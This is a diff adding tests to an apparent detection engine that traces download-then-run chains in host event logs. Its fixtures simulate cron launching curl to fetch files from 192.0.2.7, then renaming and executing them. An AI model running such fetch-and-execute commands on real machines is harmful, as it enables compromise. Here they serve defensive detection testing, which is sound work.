@@ -111,3 +111,44 @@ def test_what_was_passed_over_is_looked_at_once_a_transfer_is_near(tmp_path: Pat
     assert passed >= 2
     assert [one.stages["connected"].state for one in found] == ["seen"]
     assert found == told([rows])
+
+
+def _told_of(events: Sequence[tuple[int, Fields]], folder: Path) -> list[Transfer]:
+    """What rows that come one a block, so many seconds after the beginning, amount to; the same as where each is looked at."""
+    rows = rows_of([event_of(fields, START + at * SECOND, number, "a.log") for number, (at, fields) in enumerate(events)])
+    found, passed = _lazily(rows, folder, 1)
+    assert passed
+    assert found == told([rows])
+    return found
+
+
+FETCH: Fields = {"kind": EventKind.PROCESS_START, "pid": 611, "parent_pid": 610, "process_path": "/usr/bin/curl"}
+CRON: Fields = {"pid": 610, "process_path": "/usr/bin/cron"}
+DULL_FILE: Fields = {**CRON, "kind": EventKind.FILE_CREATE, "file_path": "/var/lib/x"}
+
+
+def test_a_file_is_known_by_the_name_that_it_got_after_a_dull_stretch(tmp_path: Path) -> None:
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a")}),
+            (1_000, DULL_FILE),
+            (1_001, {**CRON, "kind": EventKind.FILE_RENAME, "file_old_path": "/tmp/a", "file_path": "/tmp/b"}),
+            (9_000, {**CRON, "kind": EventKind.FILE_BLOCKED, "file_path": "/tmp/b"}),
+        ],
+        tmp_path,
+    )
+    assert "4" in {row.record for one in found for row in one.evidence}
+
+
+def test_a_program_is_known_by_the_end_of_its_path(tmp_path: Path) -> None:
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (1, {**FETCH, "argv": ("curl", "-o", "out/kit", "http://192.0.2.7/kit")}),
+            (1_000, DULL_FILE),
+            (9_000, {**_start(612, 610, "x", None), "process_path": "/srv/out/kit", "argv": ("kit",)}),
+        ],
+        tmp_path,
+    )
+    assert [one.stages["run"].state for one in found] == ["seen"]
